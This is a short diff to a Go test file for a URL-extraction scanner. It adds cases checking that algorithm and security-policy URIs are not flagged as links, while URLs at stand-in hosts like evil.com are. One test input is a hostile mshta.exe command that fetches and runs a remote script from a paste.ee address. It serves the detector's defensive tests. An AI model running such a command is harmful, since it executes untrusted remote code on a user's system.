@@ -7,6 +7,9 @@ import (
 
 func TestScanURL(t *testing.T) {
 	runScanCases(t, Config{}, []scanCase{
+		// an algorithm's or a security policy's URI identifies it, as a namespace does; a link under another key stays one
+		{`<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/> SecurityPolicy http://opcfoundation.org/UA/SecurityPolicy#Basic256Sha256 {"securityPolicyUri":"http://opcfoundation.org/UA/SecurityPolicy#None"}`, nil},
+		{`policy http://evil.com/p algorithm x http://evil.org/a`, []string{"url http://evil.com/p", "url http://evil.org/a"}},
 		{"http://evil.com", []string{"url http://evil.com"}},
 		// a comma in a query is kept, but not one before another URL
 		{`mshta.exe "javascript:a=GetObject('script:https://paste.ee/r/Xk2qP/0');close();"`, []string{
